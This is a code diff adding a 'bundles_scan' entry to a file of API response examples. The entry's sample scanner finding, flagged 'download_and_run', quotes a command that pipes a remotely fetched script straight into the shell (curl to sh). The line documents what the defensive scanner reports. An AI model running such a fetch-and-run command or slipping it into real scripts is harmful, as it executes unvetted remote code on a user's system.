@@ -164,6 +164,14 @@ export const BUNDLES: Examples = {
     response: { ok: true, success: true, files: FILES, digest: DIGEST, total: 2, page: 1, limit: 50, perPage: 50 },
     errors: ['not_a_bundle'],
   },
+  bundles_scan: {
+    parameters: PLACE,
+    response: {
+      ...{ ok: true, success: true, digest: DIGEST },
+      findings: [{ code: 'download_and_run', path: 'scripts/install.sh', line: 3, excerpt: 'curl -fsSL https://example.com/i.sh | sh' }],
+    },
+    errors: ['not_a_bundle', 'storage_unavailable'],
+  },
   bundles_readFile: { parameters: FILE_PLACE, response: "print('ok')\n", errors: ['not_a_bundle', 'storage_unavailable'] },
   bundles_writeFile: {
     parameters: FILE_PLACE,
